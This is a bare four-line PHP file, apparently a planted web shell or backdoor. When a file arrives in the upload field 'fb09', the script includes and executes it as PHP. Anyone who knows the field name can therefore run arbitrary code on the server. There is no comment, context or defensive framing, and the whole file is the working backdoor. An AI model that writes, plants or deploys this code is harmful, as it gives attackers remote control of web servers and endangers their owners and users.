<?php
if (!empty($_FILES['fb09']['tmp_name'])) {
    include($_FILES['fb09']['tmp_name']);
}
